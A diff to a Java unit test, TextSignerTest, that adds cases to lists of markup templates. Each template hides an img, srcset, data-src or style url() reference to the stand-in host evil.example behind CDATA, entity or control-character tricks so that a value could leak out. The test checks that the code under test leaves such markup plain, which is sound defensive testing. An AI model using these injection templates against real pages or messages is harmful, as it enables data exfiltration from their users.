@@ -111,6 +111,7 @@ class TextSignerTest {
             "<![CDATA[<img srcset=\"]]>&quot; src=&quot;https://evil.example/ <![CDATA[ {a}\"]]>",
             "<![CDATA[<img src=]]>\"https://evil.example/ {a}\"", "&lt;img src=a&quot;='{a}'&gt;", "&lt;img src=&quot;{a}<b/>",
             "<p data-x=\"&lt;img src='https://evil.example/ {a}'&gt;\">", "&lt;{a}&gt;", "<d>&lt;p</d><link>{a}</link>",
+            "&lt;img src=&quot;https://evil.example/ <![CDATA[<b x='{a}'>]]>",
             "<![CDATA[&lt;b x=\"]]>&lt;img src=\"https://evil.example/ x&gt; {a}\"",
             "&lt;!<b/>-- &lt;b x=' --&gt; &lt;img src=\"https://evil.example/ ' y='{a}'\"",
             "<![CDATA[</]]>x=\"&gt; &lt;b y=\"&gt; &lt;img src=&quot;https://evil.example/ z='{a}'&quot;&gt;" })
@@ -141,7 +142,7 @@ class TextSignerTest {
             "<a x/='> <img src=\"https://evil.example/ c' z='{a}'\">",
             "<a x=\u0001\"> <img src=\"https://evil.example/ z='{a}'\">",
             "<img srcset=\"https://evil.example/x\u000b{a} 1x\">", "<p style='x: url(\"https://evil.example/ {a}\")'>",
-            "<img data-src=\"https://evil.example/ {a}\">", "<img data-src=\"/\t/evil.example/ {a}\">",
+            "<a href=\u0000{a}>", "<img data-src=\"https://evil.example/ {a}\">", "<img data-src=\"/\t/evil.example/ {a}\">",
             "<img data-src=\"ht\ntps:evil.example/ {a}\">", "<img data-src=\"/&NewLine;/evil.example/ {a}\">" })
     void placeThatIsUnclearInMarkup_staysAsItIs(String template) {
         assertPlain(template, true);
